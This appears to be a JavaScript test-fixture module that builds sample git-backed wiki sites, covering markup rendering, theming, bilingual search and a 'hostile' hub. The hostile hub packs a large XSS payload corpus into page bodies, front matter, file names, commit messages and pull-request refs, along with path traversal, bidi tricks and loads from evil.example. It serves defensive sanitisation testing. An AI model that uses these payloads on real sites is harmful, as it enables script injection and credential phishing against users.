// Hubs that are written here: one with every kind of markup, one by somebody who wishes readers ill.

import { execFileSync } from "node:child_process";
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";

/** Every kind of markup, with words and tables too wide for a phone, and a page from right to left. */
export function kitchenSink(folder) {
  write(folder, "hub.yaml", "title: Sink\nlanguages: [en, ar]\nlicensing: { default: CC-BY-4.0 }\n");
  write(folder, "content/index.md", SINK);
  write(folder, "content/rtl.md", "---\ntitle: المد والجزر\nlang: ar\n---\n\nالبحر يرتفع [وينخفض](index.md) مرتين في اليوم.\n\n> [!WARNING]\n> انتبه إلى `code` هنا.\n\n| ا | ب |\n|---|---|\n| ١ | ٢ |\n");
  write(folder, "content/drop.svg", '<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="200"><rect width="1600" height="200" fill="#246"/></svg>');
  commit(folder, "Ada", "Everything");
  return folder;
}

/** What a maintainer changes first: a logo, colours of which none can be read as they are, a menu of two levels, a section in an order. */
export function maintained(folder) {
  write(
    folder,
    "hub.yaml",
    `title: Shore Commons of the whole Western coast
logo: logo.svg
icon: logo.svg
colours: { accent: "#c9d64a", background: "#c8d8d0", dark: { accent: "#703060", background: "#405060" } }
menu: [home, Guides, recent-changes, { title: More of it, children: [contributors, Knots and bends for everybody, { title: Forum, url: "https://forum.example/" }] }]
footer: { text: "Run by the *friends* of the [[Guides]].", links: [Guides, { title: Imprint, url: "https://imprint.example/" }] }
css: [extra.css]
licensing: { default: CC-BY-4.0 }
`,
  );
  write(folder, "content/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 40"><rect width="400" height="40" rx="20" fill="#4a6"/></svg>');
  write(folder, "static/extra.css", "h1 { font-style: italic }\n");
  write(folder, "content/index.md", "# Shore\n\nThe sea, twice a day, and what it leaves behind for those who look.\n");
  write(folder, "content/guides/index.md", "# Guides\n\nHow to walk there and come back with dry feet, by those who did.\n");
  const part = (n) => `---\norder: ${n}\ncategories: [Tides]\n---\n# How to read a tide table, part ${n}\n\nIt says when the water is high.\n\n## Before\n\n> [!WARNING]\n> Water.\n\n## At the sea\n\n[[Nowhere]]\n\n## After\n\n\`\`\`rust\nfn main() { println!("{}", 1); } // x\n\`\`\`\n`;
  for (const n of [1, 2, 3]) write(folder, `content/guides/tide-${n}.md`, part(n));
  write(folder, "content/guides/knots/index.md", "---\norder: 4\n---\n# Knots and bends for everybody\n\nThey hold, mostly, and come apart again when they should.\n");
  write(folder, "content/guides/knots/reef.md", "# Reef knot\n\nIt is tied in two halves, of which the second goes the other way.\n");
  commit(folder, "Ada", "What a maintainer changes first");
  return folder;
}

/** Scripts wherever a stranger can write. Each payload would set \`pwned\` or open a dialog. */
export function hostileHub(folder) {
  write(folder, "hub.yaml", "title: Hostile\nlicensing: { default: CC-BY-4.0 }\n");
  write(folder, "content/index.md", "# Home\n\n[[Page]] [[Ids]]\n\n## Newest\n\n## Topics\n\n## Changes\n\n## People\n\n## Wanted\n");
  write(folder, "content/page.md", PAGE);
  write(folder, "content/ids.md", IDS);
  write(folder, "content/<img src=x onerror=alert(3)>.md", `# "><img src=x onerror=alert(4)>\n\n[[x"onmouseover="alert(5)]] [[Page|<img src=x onerror=alert(6)>]]\n`);
  write(folder, "content/bad.svg", '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(7)"><script>alert(8)</script></svg>');
  write(folder, "content/evil.html", "<script>alert(9)</script>");
  write(
    folder,
    "contributors/eve.md",
    `---\nname: '<script>alert(10)</script>'\nurl: javascript:alert(11)\ngithub: '"><script>alert(12)</script>'\npronouns: '<img src=x onerror=alert(13)>'\navatar: javascript:alert(14)\n---\n<script>alert(15)</script> [me](javascript:alert(16))\n\n## Activity\n\n## Day\n\n## Latest\n\n## Work 1\n\n## Statements\n`,
  );
  commit(folder, '"><script>alert(17)</script>', `<script>alert(18)</script>\n\nCo-authored-by: <img src=x onerror=alert(19)> <eve@tide.example>\nAssisted-by: "><svg onload=alert(20)>`);
  write(folder, "content/page.md", `${PAGE}\n\nMore.\n`);
  write(folder, "content/proposed.md", PAGE);
  write(folder, "content/proposed-ids.md", IDS);
  write(folder, "content/<script>alert(82)<.md", PAGE);
  propose(folder, "refs/pull/1/head", "<img src=x onerror=alert(83)>", '"><script>alert(84)</script>');
  write(folder, "content/tangle.md", IDS);
  propose(folder, 'refs/pull/"><script>alert(85)</head', "Eve", "#### Next step\n\n<script>alert(86)</script>");
  return folder;
}

/** Pages to be found: in three scripts, in two languages, many with one word, and titles of somebody who wishes readers ill. */
export function searchHub(folder) {
  write(folder, "hub.yaml", "title: Shore\nlanguages: [en, ar]\nlicensing: { default: CC-BY-4.0 }\n");
  write(folder, "content/index.md", "# Home\n\nWelcome.\n");
  write(folder, "content/hermit-crabs.md", HERMIT);
  write(folder, "content/shore-crab.md", "---\ntitle: Shore crab\ncategories: [Crustaceans]\naliases: [Carcinus]\n---\n\nThe green crab of harbours.\n");
  for (let at = 1; at <= 14; at += 1) write(folder, `content/pool-${at}.md`, `---\ntitle: Pool ${at}\ndescription: Pool number ${at} of the bay.\n---\n\nAnemones, mussels and number ${at}.\n\n## Who lives here\n\nSome limpets.\n`);
  write(folder, "content/chinese.md", "---\ntitle: 寄居蟹\nlang: zh\n---\n\n寄居蟹生活在海边，住在空的海螺壳里。\n");
  write(folder, "content/arabic.md", "---\ntitle: السرطان الناسك\nlang: ar\n---\n\nيعيش السرطان الناسك في صدفة فارغة.\n");
  write(folder, "content/hostile-1.md", `---\ntitle: "<script>globalThis.pwned = 1</script><img src=x onerror='globalThis.pwned = 2'>"\ncategories: ["<b onclick=alert(1)>Hostile"]\n---\n\nMalice of the first kind: \`<img src=x onerror="globalThis.pwned = 3">\`.\n`);
  write(folder, "content/hostile-2.md", '---\ntitle: "Backwards \u202e\u2066\u202dmalice"\n---\n\nMalice of the second kind.\n');
  write(folder, "content/hostile-3.md", `---\ntitle: "${"Malice".repeat(1667)}"\n---\n\nMalice of the third kind.\n`);
  commit(folder, "Ada", "Everything");
  return folder;
}

const HERMIT = `---
title: Hermit crabs
description: Crabs with a soft tail that live in the shells of snails.
categories: [Crustaceans]
---

A hermit crab is soft behind. It carries a house about.

## Moving house

When the spring tide uncovers a larger whelk, the crab measures it with its claws and moves.

## Company

Sponges and anemones ride on it.
`;

const SINK = `---
title: Every kind of markup
categories: [Markup]
infobox: { Averyverylongkeywithoutaplacetobreakit: Averyveryverylongvaluewithoutanyplacetobreakitatallanywhere }
---

A link to [another page](rtl.md), an address https://example.org/averyveryverylongaddress/withoutanyplace/tobreakitatallanywhere/in/the/middle/of/it,
a red [[Missing page]], \`code\`, *emphasis*, **strong**, ~~struck~~, <kbd>Ctrl</kbd>, H<sub>2</sub>O, $e^{i\\pi}+1=0$ and a note.[^1]
Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaftsvorsteherin.

$$\\int_0^1 \\frac{x^{2}+y^{2}+z^{2}+a^{2}+b^{2}+c^{2}+d^{2}+e^{2}+f^{2}+g^{2}}{\\sqrt{1+x+x^2+x^3+x^4+x^5+x^6+x^7+x^8}}\\,dx = \\sum_{n=0}^{\\infty} a_n$$

## Lists

- [x] done
- [ ] to do
  1. first
  2. second

## Alerts

> [!NOTE]
> A note with a [link](rtl.md) and \`code\`.

> [!TIP]
> A tip with a [link](rtl.md).

> [!IMPORTANT]
> Important with a [link](rtl.md).

> [!WARNING]
> A warning with a [link](rtl.md).

> [!CAUTION]
> Caution with a [link](rtl.md).

> A quotation with a [link](rtl.md).

## Code

\`\`\`rust
//! Reads a shore, in a line that is much longer than any phone is wide and is not broken anywhere at all by the browser.
#[derive(Debug, Clone)]
pub struct Shore<'a> { name: &'a str, depth: f64 }
fn main() -> Result<(), Box<dyn std::error::Error>> { let n = 0x1F_u32; println!("{n:?} \\n {}", 'c'); Ok(()) }
\`\`\`

\`\`\`python
@decorator
def tide(hour: int, *, name="low") -> str:
    """Says when."""
    return f"{hour % 12}" if name is not None else None  # a comment
\`\`\`

\`\`\`html
<!doctype html><p class="a" id=b>Text &amp; <b>more</b></p><!-- a comment -->
\`\`\`

\`\`\`diff
- gone
+ come
\`\`\`

## Tables

| a column | a second column | a third column | a fourth column | a fifth column | a sixth column |
|:---|:---:|---:|---|---|---|
| averyverylongword | averyverylongword | averyverylongword | averyverylongword | averyverylongword | averyverylongword |

## Pictures

![A blue field](drop.svg)

A picture ![a small blue field](drop.svg) in a line.

<details><summary>More</summary>

Hidden **text**.

</details>

[^1]: A footnote with a [link](rtl.md).
`;

const PAGE = `---
title: 'Page </script><script>alert(21)</script>'
summary: '"><img src=x onerror=alert(22)>'
categories: ['<script>alert(23)</script>', '"onclick="alert(24)']
aliases: ['Page', 'javascript:alert(25)', '../../../etc/passwd', '"><script>alert(26)</script>']
license: '<script>alert(27)</script>'
contributors: [{ who: '<img src=x onerror=alert(28)>', role: '"><img src=x onerror=alert(29)>' }, ['Eve', 'javascript:alert(30)']]
sources:
  - { title: '<script>alert(31)</script>', author: '<b onclick=alert(32)>x</b>', url: 'javascript:alert(33)', license: CC-BY-4.0, relation: adapted, changes: '<script>alert(34)</script>' }
  - { title: x, url: "java\\tscript:alert(35)" }
infobox: { '<script>alert(36)</script>': '<img src=x onerror=alert(37)>', Link: '[x](javascript:alert(38))' }
image: javascript:alert(39)
---

<script>globalThis.pwned = 1; alert(40)</script>
<img src=x onerror=alert(41)> <svg onload=alert(42)><script>alert(43)</script></svg> <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(44)&gt;"></table></mtext></math>
<iframe srcdoc="<script>parent.alert(45)</script>"></iframe><object data="javascript:alert(46)"></object><embed src="bad.svg"><base href="https://evil.example/">
<form action="https://evil.example"><input name=password autofocus onfocus=alert(47)><button formaction="javascript:alert(48)">x</button></form>
<meta http-equiv="refresh" content="0; url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/y.css"; body { display: none }</style>
<a href="javascript:alert(49)">a</a> <a href="java&#9;script:alert(50)">b</a> <a href=" &#1;javascript:alert(51)">c</a> <a href="data:text/html,<script>alert(52)</script>">d</a> <a href="//evil.example" target="_blank" ping="https://evil.example">e</a>
<p style="background: url(https://evil.example/z.png); position: fixed; inset: 0" class="skip top" onclick="alert(53)">styled</p>
<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay onplay=alert(54)></video><audio src=x onerror=alert(55) autoplay></audio>
<details open ontoggle=alert(56)><summary>x</summary></details><marquee onstart=alert(57)>x</marquee><noscript><p title="</noscript><img src=x onerror=alert(58)>"></noscript>

[x](javascript:alert(59)) [x](JaVaScRiPt:alert(60)) [x](<java
script:alert(61)>) [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![x](javascript:alert(62)) ![x](bad.svg) ![x](evil.html) [e](evil.html)
![x" onerror="alert(63)](x.png "y\\" onerror=\\"alert(64)") ![](https://evil.example/pixel.png) <https://evil.example/"onmouseover=alert(65)>

# Heading {#x" onclick="alert(66)}

## <img src=x onerror=alert(67)> {onclick=alert(68)}

[[Page|<script>alert(69)</script>]] [[javascript:alert(70)]] [[//evil.example]] ![[https://evil.example/pixel.png|<script>alert(71)</script>]] [[Category:<script>alert(72)</script>]]

$\\href{javascript:alert(73)}{x}$ $\\html{<script>alert(74)</script>}$ $\\text{</annotation><script>alert(75)</script>}$ $$\\unicode{<img src=x onerror=alert(76)>}$$

\`\`\`"><script>alert(77)</script>
</code></pre><script>alert(78)</script>
\`\`\`

[^<script>]: <script>alert(79)</script>

Note[^<script>] and \`</code><script>alert(80)</script>\`

</article></main></div><script src="https://evil.example/x.js"></script>
`;

const IDS = `# Ids

<p id="content">a</p> <p id="cite_note-1">b</p> <img name="body" id="head" src="x.png" alt=""> <a name="cookie" id="querySelector">c</a> <form id="forms"><input name="getElementById"></form>

## Content

## content {#content}

## Content

## sources-of-page

## constructor

## __proto__

Text[^a].[^a]

[^a]: note
`;

function write(folder, path, text) {
  const file = join(folder, path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
}

function commit(folder, name, message) {
  git(folder, name, "init", "--quiet");
  git(folder, name, "add", "--all");
  git(folder, name, "commit", "--quiet", "--allow-empty", "--message", message);
}

/** Makes a commit of what was written since, and takes it away again but for a ref, as forges keep a pull request. */
function propose(folder, ref, name, message) {
  commit(folder, name, message);
  git(folder, name, "update-ref", ref, "HEAD");
  git(folder, name, "reset", "--quiet", "--hard", "HEAD~1");
}

function git(folder, name, ...args) {
  execFileSync("git", ["-c", "user.useConfigOnly=false", ...args], {
    cwd: folder,
    stdio: ["ignore", "ignore", "inherit"],
    env: {
      PATH: process.env.PATH, HOME: folder, GIT_CONFIG_NOSYSTEM: "1",
      GIT_AUTHOR_NAME: name, GIT_AUTHOR_EMAIL: "eve@tide.example", GIT_AUTHOR_DATE: "2026-03-04T09:00:00Z",
      GIT_COMMITTER_NAME: "Ada", GIT_COMMITTER_EMAIL: "ada@tide.example", GIT_COMMITTER_DATE: "2026-03-04T09:00:00Z",
    },
  });
}
